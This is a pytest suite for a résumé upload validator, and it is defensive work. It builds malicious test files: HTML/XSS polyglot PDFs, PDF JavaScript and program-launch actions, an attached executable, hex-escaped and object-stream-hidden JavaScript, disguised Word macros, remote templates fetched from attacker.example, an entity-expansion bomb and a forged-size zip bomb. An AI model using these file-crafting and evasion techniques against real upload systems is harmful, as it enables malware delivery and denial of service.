"""Résumés are checked for what they are and what they carry (issue 17, finding 11): a
PDF that is also a web page, a PDF with JavaScript, automatic actions, program launches or
attached files; a .docx with macros under any name, embedded binaries, a template or frame
loaded from elsewhere; a zip bomb. Every file here is built in the test: real PDFs written
with fpdf2 and pypdf, real Word documents from python-docx, changed with zipfile."""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib

import pytest
from pypdf import PdfWriter
from pypdf.actions import JavaScript
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, TextStringObject

from portal import resume_content, validation
from portal.errors import ValidationError
from tests.support import make_docx, make_pdf

PLAIN_PDF = "Save it again as a plain PDF (Print → Save as PDF) and upload that."


def refusal(name: str, data: bytes) -> str:
    with pytest.raises(ValidationError) as raised:
        validation.resume(name, data)
    return str(raised.value)


# --- PDF ----------------------------------------------------------------------------------

def written(change) -> bytes:
    """A real PDF (fpdf2's) rewritten by pypdf after `change(writer)`."""
    writer = PdfWriter(clone_from=io.BytesIO(make_pdf()))
    change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def set_in_catalog(key: str, value):
    return lambda writer: writer.root_object.__setitem__(NameObject(key), value)


def action(kind: str, **entries) -> DictionaryObject:
    item = DictionaryObject({NameObject("/Type"): NameObject("/Action"), NameObject("/S"): NameObject(kind)})
    item.update({NameObject("/" + key): value for key, value in entries.items()})
    return item


def test_a_plain_pdf_rewritten_by_pypdf_is_accepted():
    assert validation.resume("cv.pdf", written(lambda writer: None))[0] == "pdf"


def test_a_pdf_opening_on_its_first_page_is_accepted():
    # A destination as /OpenAction (the page, fit to width) is no action: Word writes these.
    def open_at_first_page(writer):
        writer.root_object[NameObject("/OpenAction")] = ArrayObject(
            [writer.pages[0].indirect_reference, NameObject("/FitH"), NumberObject(800)])
    assert validation.resume("cv.pdf", written(open_at_first_page))[0] == "pdf"
    go_to = action("/GoTo", D=ArrayObject([NumberObject(0), NameObject("/Fit")]))
    assert validation.resume("cv.pdf", written(set_in_catalog("/OpenAction", go_to)))[0] == "pdf"


@pytest.mark.parametrize("prefix", [
    b"<html><body><script>alert(document.cookie)</script><!--\n",
    b"<!DOCTYPE html>\n<!--",
    b"  <svg onload=alert(1)><!--",
])
def test_a_pdf_that_is_also_a_web_page_is_refused(prefix):
    message = refusal("cv.pdf", prefix + make_pdf())
    assert message == f"“cv.pdf” is a PDF that is also a web page (HTML at its start), which we " \
                      f"do not accept. {PLAIN_PDF}"


def test_html_just_after_the_pdf_header_is_refused_too():
    pdf = make_pdf()
    header_end = pdf.index(b"\n") + 1
    polyglot = pdf[:header_end] + b"%<script>alert(1)</script>\n" + pdf[header_end:]
    assert "also a web page" in refusal("cv.pdf", polyglot)


def test_a_pdf_with_javascript_when_opened_is_refused():
    pdf = written(lambda writer: writer.add_open_action(JavaScript("app.alert('hello');")))
    assert refusal("cv.pdf", pdf) == f"“cv.pdf” contains JavaScript, which we do not accept. {PLAIN_PDF}"


def test_javascript_behind_a_link_or_a_page_event_is_refused():
    def link_with_js(writer):
        writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(DictionaryObject({
            NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject([NumberObject(0)] * 4),
            NameObject("/A"): action("/JavaScript", JS=TextStringObject("app.launchURL('x')"))}))])
    assert "contains JavaScript" in refusal("cv.pdf", written(link_with_js))

    def page_opens_something(writer):
        writer.pages[0][NameObject("/AA")] = DictionaryObject(
            {NameObject("/O"): action("/URI", URI=TextStringObject("https://tracker.example/p"))})
    assert "runs actions by itself" in refusal("cv.pdf", written(page_opens_something))


def test_an_open_action_that_is_not_a_destination_is_refused():
    visit = action("/URI", URI=TextStringObject("https://tracker.example/pixel"))
    assert refusal("cv.pdf", written(set_in_catalog("/OpenAction", visit))) == \
        f"“cv.pdf” runs actions by itself when it is opened or read, which we do not accept. {PLAIN_PDF}"


def test_a_pdf_that_launches_a_program_is_refused():
    launch = action("/Launch", F=TextStringObject("cmd.exe"))
    assert "can start other programs" in refusal("cv.pdf", written(set_in_catalog("/OpenAction", launch)))


def test_a_pdf_with_an_attached_file_is_refused():
    pdf = written(lambda writer: writer.add_attachment("invoice.exe", b"MZ\x90\x00"))
    assert refusal("cv.pdf", pdf) == \
        f"“cv.pdf” carries other files inside it, which we do not accept. {PLAIN_PDF}"


def test_a_name_spelt_with_hex_escapes_is_still_read():
    pdf = written(lambda writer: writer.add_open_action(JavaScript("app.alert(1);")))
    disguised = pdf.replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS ", b"/J#53 ")
    assert b"/JavaScript" not in disguised
    assert "contains JavaScript" in refusal("cv.pdf", disguised)


def test_javascript_in_a_damaged_pdf_is_found_by_the_byte_scan():
    pdf = written(lambda writer: writer.add_open_action(JavaScript("app.alert(1);")))
    start = pdf.index(b"xref")
    damaged = pdf[:start] + b"garbage" + pdf[start + 200:]  # no table pypdf can read
    assert resume_content._pdf_active_content_by_bytes(damaged) >= {"javascript"}
    assert "contains JavaScript" in refusal("cv.pdf", damaged)


def pdf_with_object_stream(hidden: bytes) -> bytes:
    """A PDF 1.5 whose catalog's /OpenAction (object 4) lives only inside a compressed
    object stream, indexed by a cross-reference stream: no byte of `hidden` is in the file."""
    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}

    def obj(number: int, body: bytes) -> None:
        offsets[number] = len(out)
        out.extend(b"%d 0 obj\n" % number + body + b"\nendobj\n")

    obj(1, b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>")
    obj(2, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>")
    obj(3, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>")
    header = b"4 0 "
    packed = zlib.compress(header + hidden)
    obj(5, b"<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
        % (len(header), len(packed)) + packed + b"\nendstream")
    xref_at = len(out)
    rows = [struct.pack(">BIH", 0, 0, 65535)]
    rows += [struct.pack(">BIH", 1, offsets[n], 0) for n in (1, 2, 3)]
    rows += [struct.pack(">BIH", 2, 5, 0)]                 # object 4: first in stream 5
    rows += [struct.pack(">BIH", 1, offsets[5], 0), struct.pack(">BIH", 1, xref_at, 0)]
    table = zlib.compress(b"".join(rows))
    out.extend(b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Filter /FlateDecode"
               b" /Length %d >>\nstream\n" % len(table) + table + b"\nendstream\nendobj\n")
    out.extend(b"startxref\n%d\n%%%%EOF\n" % xref_at)
    return bytes(out)


def test_javascript_inside_a_compressed_object_stream_is_found_by_reading_the_pdf():
    pdf = pdf_with_object_stream(b"<< /S /JavaScript /JS (app.alert(1)) >>")
    assert resume_content._pdf_active_content_by_bytes(pdf) == set()  # the bytes show nothing
    assert resume_content._pdf_active_content_parsed(pdf) == {"javascript", "auto"}
    assert "contains JavaScript" in refusal("cv.pdf", pdf)
    # The same file with a harmless destination there is accepted: the walk is no blanket refusal.
    harmless = pdf_with_object_stream(b"<< /S /GoTo /D [3 0 R /Fit] >>")
    assert validation.resume("cv.pdf", harmless)[0] == "pdf"


# --- Word (.docx) ---------------------------------------------------------------------------

PLAIN_DOCX = ("Save it again as a plain Word document (File → Save As → Word Document .docx) or as "
              "PDF, and upload that.")


def changed_docx(add: dict[str, bytes] | None = None, replace: dict[str, bytes] | None = None,
                 compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A real Word document (python-docx's) with parts added or replaced."""
    replace = replace or {}
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(make_docx())) as source, \
            zipfile.ZipFile(out, "w", compression) as target:
        for item in source.infolist():
            target.writestr(item.filename, replace.get(item.filename, source.read(item.filename)))
        for name, data in (add or {}).items():
            target.writestr(name, data)
    return out.getvalue()


def content_types(extra: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(make_docx())) as source:
        types = source.read("[Content_Types].xml").decode()
    return types.replace("</Types>", extra + "</Types>").encode()


def relationships(*entries: str) -> bytes:
    return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            + "".join(entries) + "</Relationships>").encode()


REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def test_a_word_document_with_an_external_hyperlink_is_accepted():
    link = relationships(f'<Relationship Id="rId9" Type="{REL}hyperlink" '
                         'Target="https://www.linkedin.com/in/ada" TargetMode="External"/>')
    data = changed_docx(add={"word/_rels/footnotes.xml.rels": link})
    assert validation.resume("cv.docx", data)[0] == "docx"


def test_macros_under_another_name_are_refused():
    # Word finds the VBA project by its content type, whatever the part is called.
    types = content_types('<Override PartName="/word/notes.dat" '
                          'ContentType="application/vnd.ms-office.vbaProject"/>')
    data = changed_docx(add={"word/notes.dat": b"\xd0\xcf\x11\xe0 vba"},
                        replace={"[Content_Types].xml": types})
    assert refusal("cv.docx", data) == \
        f"“cv.docx” contains macros or embedded programs, which we do not accept. {PLAIN_DOCX}"


def test_a_macro_enabled_document_renamed_docx_is_refused():
    types = content_types("").replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"application/vnd.ms-word.document.macroEnabled.main+xml")
    assert b"macroEnabled" in types
    assert "contains macros" in refusal("cv.docx", changed_docx(replace={"[Content_Types].xml": types}))


@pytest.mark.parametrize("part", ["word/vbaProject.bin", "word/stuff.bin",
                                  "word/embeddings/oleObject1.bin", "word/activeX/activeX1.bin"])
def test_any_binary_part_is_refused(part):
    data = changed_docx(add={part: b"\x00" * 64})
    assert "contains macros or embedded programs" in refusal("cv.docx", data)


def test_a_vba_relationship_is_refused_even_without_its_part():
    rels = relationships('<Relationship Id="rId9" '
                         'Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
                         'Target="macros.dat"/>')
    assert "contains macros" in refusal("cv.docx", changed_docx(add={"word/_rels/settings.xml.rels": rels}))


@pytest.mark.parametrize("kind", ["attachedTemplate", "oleObject", "frame", "subDocument"])
def test_a_remote_template_or_object_is_refused(kind):
    rels = relationships(f'<Relationship Id="rId1" Type="{REL}{kind}" '
                         'Target="https://attacker.example/template.dotm" TargetMode="External"/>')
    data = changed_docx(add={"word/_rels/settings.xml.rels": rels})
    assert refusal("cv.docx", data) == (
        f"“cv.docx” loads a template or content from another address when it is opened, which we "
        f"do not accept. {PLAIN_DOCX}")


def test_a_document_type_with_entities_is_refused_as_damaged():
    bomb = (b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "aaaaaaaaaa">'
            b'<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
            b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">&b;'
            b"</Relationships>")
    message = refusal("cv.docx", changed_docx(add={"word/_rels/settings.xml.rels": bomb}))
    assert message.startswith("“cv.docx” is a damaged Word document.")


def test_a_zip_bomb_is_refused_from_its_directory_without_unpacking():
    # A part that says it unpacks to 1 GiB: only the directory says so, nothing that large exists.
    data = bytearray(changed_docx(add={"word/media/image1.png": b"\x89PNG" + b"\x00" * 60}))
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as archive:
        info = archive.getinfo("word/media/image1.png")
    directory = bytes(data).rfind(b"PK\x01\x02", 0, bytes(data).rfind(b"word/media/image1.png"))
    struct.pack_into("<I", data, directory + 24, 1 << 30)  # the central directory's unpacked size
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as archive:
        assert archive.getinfo("word/media/image1.png").file_size == 1 << 30 != info.file_size
    assert refusal("cv.docx", bytes(data)) == (
        f"“cv.docx” would unpack to more than 50 MB, far more than a résumé, which we do not "
        f"accept. {PLAIN_DOCX}")


def test_sixty_megabytes_of_zeros_in_a_small_docx_is_refused():
    data = changed_docx(add={"word/media/image1.png": bytes(60 * 1024 * 1024)})
    assert len(data) < validation.MAX_RESUME_BYTES
    assert "would unpack to more than 50 MB" in refusal("cv.docx", data)


def test_a_docx_packed_more_than_a_hundred_to_one_is_refused():
    data = changed_docx(add={"word/media/image1.png": bytes(4 * 1024 * 1024)})  # 4 MB in ~4 KB
    assert refusal("cv.docx", data) == (
        f"“cv.docx” is packed more than 100 to 1, as no Word document is, which we do not accept. "
        f"{PLAIN_DOCX}")
    # The same amount of incompressible data (a photo, say) is fine.
    photo = changed_docx(add={"word/media/image1.jpeg": random.Random(17).randbytes(4 * 1024 * 1024)})
    assert validation.resume("cv.docx", photo)[0] == "docx"


def test_thousands_of_parts_are_refused():
    data = changed_docx(add={f"word/media/{n}.xml": b"" for n in range(resume_content.MAX_ZIP_ENTRIES)})
    assert "would unpack to more than 50 MB" in refusal("cv.docx", data)
